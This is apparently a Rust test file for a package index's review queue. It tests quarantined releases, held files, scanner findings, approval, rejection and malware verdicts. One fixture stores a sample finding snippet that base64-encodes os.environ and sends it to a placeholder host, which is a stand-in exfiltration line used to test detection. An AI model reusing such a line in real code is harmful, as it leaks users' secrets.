//! The review queue over SQLite: a release quarantined by the dormant-project rule and a file
//! held on its own are listed with their ids, files, scans (or none), findings and diff in
//! words; approve publishes, reject removes (filenames stay used) and logs the verdict link.

use std::collections::{BTreeMap, BTreeSet};

use strongroom_protocol::name::ProjectName;
use strongroom_scan::diff::CapabilityDiff;
use strongroom_scan::{ArchiveScan, Capability, Finding, Rule, Severity};
use strongroom_store::file_scans::NewScan;
use strongroom_store::model::User;
use strongroom_store::{NewFile, PublishOutcome, UploadPolicy};

use super::{ItemKind, ReviewId, diff_words};
use crate::admin::AdminCap;
use crate::test_harness::Harness;
use crate::{Actor, CoreError, RequestMeta};

fn cap() -> AdminCap {
    AdminCap::test(Actor {
        id: None,
        name: "cli:ops".into(),
    })
}

fn meta() -> RequestMeta {
    RequestMeta::default()
}

fn caps(c: &[Capability]) -> BTreeSet<Capability> {
    c.iter().copied().collect()
}

/// The ctx tell as the scanner stores it: `ctx.py` gains environment reads, encoding and
/// network; one High finding with a snippet.
fn ctx_scan() -> NewScan {
    let scan = ArchiveScan {
        capabilities: BTreeMap::from([(
            "ctx.py".to_owned(),
            caps(&[
                Capability::EnvironmentRead,
                Capability::Encoding,
                Capability::Network,
            ]),
        )]),
        findings: vec![Finding {
            rule: Rule::EnvExfiltration,
            severity: Severity::High,
            path: "ctx.py".into(),
            line: Some(12),
            snippet: "requests.get(\"https://x.invalid/?\" + b64(os.environ))\u{1b}[2J".into(),
            message: "environment values reach a network call".into(),
        }],
        members_scanned: 2,
        bytes_scanned: 900,
    };
    let diff = CapabilityDiff {
        added: BTreeMap::from([(
            "ctx.py".to_owned(),
            caps(&[
                Capability::EnvironmentRead,
                Capability::Encoding,
                Capability::Network,
            ]),
        )]),
        removed: BTreeMap::new(),
        new_kinds: caps(&[Capability::EnvironmentRead, Capability::Network]),
    };
    NewScan {
        scanner_version: 1,
        scan: serde_json::to_string(&scan).expect("json"),
        score: 42,
        diff: Some(serde_json::to_string(&diff).expect("json")),
        held_reason: Some("score 42 at threshold 10".into()),
    }
}

async fn publish(
    h: &Harness,
    user: &User,
    project: &str,
    version: &str,
    tag: &str,
    policy: &UploadPolicy,
    scan: Option<NewScan>,
) -> PublishOutcome {
    let name = ProjectName::new(project).expect("name");
    let filename = format!(
        "{}-{version}-{tag}-none-any.whl",
        name.normalized().underscored()
    );
    let digest = |salt: &str| {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(format!("{salt}{filename}")))
    };
    h.s.db
        .publish(
            &NewFile {
                project_name: project.into(),
                normalized_name: name.normalized().as_str().into(),
                ultranormalized_name: name.skeleton(),
                user_id: user.id,
                username: user.username.clone(),
                token_project_id: None,
                token_id: None,
                version: version.into(),
                canonical_version: strongroom_protocol::version::Version::parse(version)
                    .expect("version")
                    .canonical(),
                requires_python: None,
                core_metadata: format!(
                    "Metadata-Version: 2.1\nName: {project}\nVersion: {version}\n"
                ),
                description: None,
                filename: filename.clone(),
                packagetype: "bdist_wheel".into(),
                python_version: tag.into(),
                size: 10,
                md5: digest("md5")[..32].to_owned(),
                sha256: digest("sha"),
                blake2_256: digest("b2"),
                blob_key: format!("{}/{filename}", digest("b2")),
                metadata_sha256: None,
                metadata_blake2_256: None,
                comment_text: None,
                at: h.s.now(),
                ip: None,
                user_agent: None,
                request_id: None,
                release_window_micros: i64::MAX / 2,
                max_project_size: 1 << 30,
                scan,
            },
            policy,
            None,
        )
        .await
        .expect("publish")
}

fn dormant(h: &Harness) -> UploadPolicy {
    UploadPolicy {
        dormant_before: Some(h.s.now()),
        quarantine_reason: "dormant project, recovered account".into(),
        hold_joined_file: Some(("joined a held release".into(), Vec::new())),
        ..UploadPolicy::default()
    }
}

/// ctx 0.1 published; 0.2 quarantined with a scan; a second file of 0.2 held on its own.
async fn ctx_fixture(h: &Harness) -> (i64, i64) {
    let alice = h.user("alice").await;
    let out = publish(
        h,
        &alice,
        "ctx",
        "0.1",
        "py3",
        &UploadPolicy::default(),
        None,
    )
    .await;
    assert!(matches!(out, PublishOutcome::Published { .. }), "{out:?}");
    h.clock.advance(1_000_000);
    let policy = dormant(h);
    let out = publish(h, &alice, "ctx", "0.2", "py3", &policy, Some(ctx_scan())).await;
    assert!(matches!(out, PublishOutcome::Quarantined { .. }), "{out:?}");
    h.clock.advance(1_000_000);
    let out = publish(h, &alice, "ctx", "0.2", "py2", &policy, None).await;
    let PublishOutcome::FileHeld { file_id } = out else {
        panic!("{out:?}")
    };
    let held = h.s.db.quarantined_releases().await.expect("held");
    (held[0].1.id, file_id)
}

#[test]
fn ids_round_trip_and_refuse_anything_else() {
    let r = ReviewId::parse("r12").expect("r");
    assert_eq!((r.kind, r.id), (ItemKind::Release, 12));
    assert_eq!(ReviewId::parse(" F7 ").expect("f").to_string(), "f7");
    for bad in [
        "",
        "r",
        "x1",
        "12",
        "r-1",
        "r1a",
        "f 1",
        "r99999999999999999999",
    ] {
        assert!(
            matches!(ReviewId::parse(bad), Err(CoreError::Invalid(_))),
            "{bad}"
        );
    }
}

#[test]
fn the_diff_reads_as_sentences() {
    let d = CapabilityDiff {
        added: BTreeMap::from([(
            "ctx.py".to_owned(),
            caps(&[
                Capability::Network,
                Capability::EnvironmentRead,
                Capability::Encoding,
            ]),
        )]),
        removed: BTreeMap::from([("old.py".to_owned(), caps(&[Capability::FileWrite]))]),
        new_kinds: caps(&[Capability::Network]),
    };
    assert_eq!(
        diff_words(&d),
        vec![
            "adds encoding, environment-read, network to ctx.py",
            "drops file-write from old.py",
            "the release has network, which the previous release did not",
        ]
    );
    assert!(diff_words(&CapabilityDiff::default()).is_empty());
}

#[tokio::test]
async fn the_queue_lists_held_releases_and_files_with_scans_findings_and_diff() {
    let h = Harness::new().await;
    assert!(h.s.review_list().await.expect("list").is_empty());
    let (release_id, file_id) = ctx_fixture(&h).await;
    let list = h.s.review_list().await.expect("list");
    let ids: Vec<String> = list.iter().map(|i| i.id.to_string()).collect();
    assert_eq!(ids, vec![format!("r{release_id}"), format!("f{file_id}")]);
    assert_eq!(list[0].project, "ctx");
    assert_eq!(list[0].version, "0.2");
    assert_eq!(
        list[0].reason.as_deref(),
        Some("dormant project, recovered account")
    );
    assert_eq!(list[0].files, vec!["ctx-0.2-py3-none-any.whl"]);
    assert_eq!(list[0].uploaders, vec!["alice"]);
    assert_eq!((list[0].score, list[0].findings), (Some(42), 1));
    // The file held on its own has no scan row: shown as such.
    assert_eq!((list[1].score, list[1].findings), (None, 0));
    assert_eq!(list[1].reason.as_deref(), Some("joined a held release"));

    let item =
        h.s.review_show(&format!("r{release_id}"))
            .await
            .expect("show");
    assert_eq!(item.held_apart.len(), 1);
    assert_eq!(item.held_apart[0].to_string(), format!("f{file_id}"));
    let f = &item.files[0];
    assert_eq!(f.uploader.as_deref(), Some("alice"));
    let scan = f.scan.as_ref().expect("scan");
    assert!(scan.unreadable.is_none());
    assert_eq!(scan.findings[0].rule, Rule::EnvExfiltration);
    assert!(scan.findings[0].snippet.contains("os.environ"));
    assert_eq!(
        item.diff_words,
        vec![
            "adds encoding, environment-read, network to ctx.py",
            "the release has environment-read, network, which the previous release did not",
        ]
    );
    let json = serde_json::to_value(&item).expect("json");
    assert_eq!(json["id"], format!("r{release_id}"));
    assert_eq!(json["kind"], "release");
    assert_eq!(
        json["files"][0]["scan"]["findings"][0]["rule"],
        "SR-M1-env-exfiltration"
    );
    let held = h.s.review_show(&format!("f{file_id}")).await.expect("show");
    assert!(held.files[0].scan.is_none());
    assert!(matches!(
        h.s.review_show("r999999").await,
        Err(CoreError::NotFound(_))
    ));
}

#[tokio::test]
async fn an_unreadable_scan_is_said_not_fatal() {
    let h = Harness::new().await;
    let alice = h.user("alice").await;
    publish(
        &h,
        &alice,
        "ctx",
        "0.1",
        "py3",
        &UploadPolicy::default(),
        None,
    )
    .await;
    h.clock.advance(1_000_000);
    let scan = NewScan {
        scan: "{\"capabilities\": 7}".into(),
        diff: Some("[]".into()),
        ..ctx_scan()
    };
    publish(&h, &alice, "ctx", "0.2", "py3", &dormant(&h), Some(scan)).await;
    let list = h.s.review_list().await.expect("list");
    let item =
        h.s.review_show(&list[0].id.to_string())
            .await
            .expect("show");
    let scan = item.files[0].scan.as_ref().expect("scan row");
    let why = scan.unreadable.as_deref().expect("unreadable");
    assert!(why.contains("scan:") && why.contains("diff:"), "{why}");
    assert_eq!(scan.score, 42);
    assert!(scan.findings.is_empty() && item.diff_words.is_empty());
}

#[tokio::test]
async fn approve_publishes_the_release_and_then_the_file_each_with_its_event() {
    let h = Harness::new().await;
    let (release_id, file_id) = ctx_fixture(&h).await;
    let p = h.s.db.project_state("ctx").await.expect("p").expect("p");
    assert!(matches!(
        h.s.review_approve(&cap(), &format!("r{release_id}"), "  ", &meta())
            .await,
        Err(CoreError::Invalid(_))
    ));
    let d =
        h.s.review_approve(
            &cap(),
            &format!("r{release_id}"),
            "reviewed the diff",
            &meta(),
        )
        .await
        .expect("approve");
    assert_eq!(d.published, vec!["ctx-0.2-py3-none-any.whl"]);
    assert_eq!(d.still_held, vec!["ctx-0.2-py2-none-any.whl"]);
    assert_eq!(h.s.db.releases_of(p.id).await.expect("r").len(), 2);
    assert_eq!(h.event_details("admin:release:approve").await.len(), 1);
    // Decided: no longer queued; the file is still its own item.
    let ids: Vec<String> =
        h.s.review_list()
            .await
            .expect("list")
            .iter()
            .map(|i| i.id.to_string())
            .collect();
    assert_eq!(ids, vec![format!("f{file_id}")]);
    assert!(matches!(
        h.s.review_approve(&cap(), &format!("r{release_id}"), "again", &meta())
            .await,
        Err(CoreError::NotFound(_))
    ));
    let d =
        h.s.review_approve(&cap(), &format!("f{file_id}"), "same bytes as py3", &meta())
            .await
            .expect("approve file");
    assert_eq!(d.published, vec!["ctx-0.2-py2-none-any.whl"]);
    let ev = h.event_details("admin:file:approve").await;
    assert_eq!(ev.len(), 1);
    assert_eq!(ev[0]["reason"], "same bytes as py3");
    assert!(h.s.review_list().await.expect("list").is_empty());
    assert!(h.event_details("admin:review:reject").await.is_empty());
}

#[tokio::test]
async fn reject_removes_the_release_burns_its_filenames_and_links_the_verdict() {
    let h = Harness::new().await;
    let (release_id, file_id) = ctx_fixture(&h).await;
    let p = h.s.db.project_state("ctx").await.expect("p").expect("p");
    let d =
        h.s.review_reject(
            &cap(),
            &format!("r{release_id}"),
            "exfiltrates the environment",
            &meta(),
        )
        .await
        .expect("reject");
    assert_eq!(
        d.removed,
        vec!["ctx-0.2-py3-none-any.whl", "ctx-0.2-py2-none-any.whl"]
    );
    // The verdict is recorded under this index's prefix, naming the removed files.
    let id = d.verdict_id.clone().expect("a verdict id");
    assert_eq!(id, "STRONGROOM-MAL-2026-1");
    let v = h.s.db.verdict(&id).await.expect("verdict").expect("row");
    assert_eq!((v.project.as_str(), v.version.as_str()), ("ctx", "0.2"));
    assert_eq!(v.files.len(), 2);
    let releases = h.s.db.releases_any_state(p.id).await.expect("r");
    let r = releases
        .iter()
        .find(|r| r.id == release_id)
        .expect("row kept");
    assert!(r.removed_at.is_some());
    assert_eq!(
        h.s.db.releases_of(p.id).await.expect("r").len(),
        1,
        "0.1 stays"
    );
    // Everything of it left the queue, the file held apart too.
    assert!(h.s.review_list().await.expect("list").is_empty());
    assert!(matches!(
        h.s.review_approve(&cap(), &format!("f{file_id}"), "sneak it in", &meta())
            .await,
        Err(CoreError::NotFound(_))
    ));
    // The events: the removal (existing) and the review's link.
    let removal = h.event_details("admin:release:remove").await;
    assert_eq!(removal.len(), 1);
    assert_eq!(removal[0]["was_quarantined"], true);
    let rej = h.event_details("admin:review:reject").await;
    assert_eq!(rej.len(), 1);
    assert_eq!(rej[0]["item"], format!("r{release_id}"));
    assert_eq!(rej[0]["reason"], "exfiltrates the environment");
    assert_eq!(rej[0]["files"].as_array().expect("files").len(), 2);
    assert_eq!(
        rej[0]["verdict_id"],
        id.as_str(),
        "the event links the verdict"
    );
    // Its filenames stay used: the same file cannot be uploaded again.
    let alice = h.s.db.user_by_name("alice").await.expect("u").expect("u");
    let again = publish(
        &h,
        &alice,
        "ctx",
        "0.2",
        "py3",
        &UploadPolicy::default(),
        None,
    )
    .await;
    assert!(matches!(again, PublishOutcome::Refused(_)), "{again:?}");
    let again = publish(
        &h,
        &alice,
        "ctx",
        "0.3",
        "py3",
        &UploadPolicy::default(),
        None,
    )
    .await;
    assert!(
        matches!(again, PublishOutcome::Published { .. }),
        "{again:?}"
    );
}

#[tokio::test]
async fn reject_of_a_held_file_deletes_it_and_keeps_its_name_used() {
    let h = Harness::new().await;
    let (release_id, file_id) = ctx_fixture(&h).await;
    let d =
        h.s.review_reject(&cap(), &format!("f{file_id}"), "not the same code", &meta())
            .await
            .expect("reject");
    assert_eq!(d.removed, vec!["ctx-0.2-py2-none-any.whl"]);
    assert!(h.s.db.file_any_state(file_id).await.expect("f").is_none());
    assert_eq!(h.event_details("admin:file:reject").await.len(), 1);
    let rej = h.event_details("admin:review:reject").await;
    assert_eq!(rej[0]["item"], format!("f{file_id}"));
    // The release is still queued on its own.
    let ids: Vec<String> =
        h.s.review_list()
            .await
            .expect("list")
            .iter()
            .map(|i| i.id.to_string())
            .collect();
    assert_eq!(ids, vec![format!("r{release_id}")]);
    let alice = h.s.db.user_by_name("alice").await.expect("u").expect("u");
    let again = publish(&h, &alice, "ctx", "0.2", "py2", &dormant(&h), None).await;
    assert!(matches!(again, PublishOutcome::Refused(_)), "{again:?}");
}
